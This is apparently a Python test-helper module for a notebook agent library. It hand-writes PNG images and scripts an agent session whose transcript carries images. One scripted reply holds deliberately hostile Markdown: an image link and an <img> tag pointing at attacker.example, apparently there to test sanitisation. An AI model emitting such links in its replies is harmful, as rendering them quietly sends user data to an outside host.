"""Real image bytes written without Pillow, and a session whose transcript carries images.

    Image(png(64, 48))                  # a gradient, so every pixel matters
    Image(png(2, 2, rgb=(0, 0, 255)))   # one colour
    image_block(rgb=RED)                # as a transcript block
    image_session()                     # a prompt image and a tool-result image, hostile Markdown
"""

from __future__ import annotations

import base64
import re
import struct
import zlib

import bettong_nb
from bettong_nb.providers.scripted import Scripted

__all__ = ["png", "RED", "PLOT", "image_block", "image_session", "data_urls"]

RED = (200, 30, 30)


def png(width: int, height: int, *, rgb: tuple[int, int, int] | None = None, comment: bytes = b"") -> bytes:
    """A real RGB PNG written byte by byte (no Pillow): signature, IHDR, a text chunk holding
    ``comment`` if any, one IDAT of unfiltered rows, IEND. Every pixel ``rgb``, else a gradient
    so every pixel matters."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    if rgb is None:
        rows = b"".join(b"\x00" + bytes((x * 7 + y * 13 + c * 50) % 256 for x in range(width) for c in range(3))
                        for y in range(height))
    else:
        rows = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))
    text = chunk(b"tEXt", b"Comment\x00" + comment) if comment else b""
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) + text
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


PLOT = png(64, 48)


def image_block(width: int = 2, height: int = 2, rgb: tuple[int, int, int] = RED) -> dict:
    """A one-colour PNG as a transcript block."""
    return {"type": "image", "media_type": "image/png", "data": base64.b64encode(png(width, height, rgb=rgb)).decode()}


def image_session() -> bettong_nb.Session:
    """A session whose transcript carries an image in a prompt and one in a tool result (the
    transcript shape of images: a block {"type": "image", "media_type", "data": base64})."""

    def plot() -> bettong_nb.ToolOutput:
        """Draw the plot."""
        return bettong_nb.ToolOutput("a red square", images=(bettong_nb.Image.from_block(image_block()),))

    agent = bettong_nb.agent(provider=Scripted([
        {"text": "Let me draw it.", "tool_calls": [("plot", {})]},
        "It is a red square. ![leak](http://attacker.example/x?d=1) <img src=http://attacker.example/y>",
        [("plot", {})], "Still red.",
    ]), capabilities=[{"id": "plots", "tools": [bettong_nb.tool(plot)]}], prices={"input": 1, "output": 2})
    chat = agent.session()
    chat.run(["What is this?", bettong_nb.Image.from_block(image_block(rgb=(0, 0, 255)))])
    chat.run("And <b>now</b>?")
    return chat


def data_urls(html: str) -> list[str]:
    return re.findall(r'<img class="bettong-image" src="([^"]+)"', html)
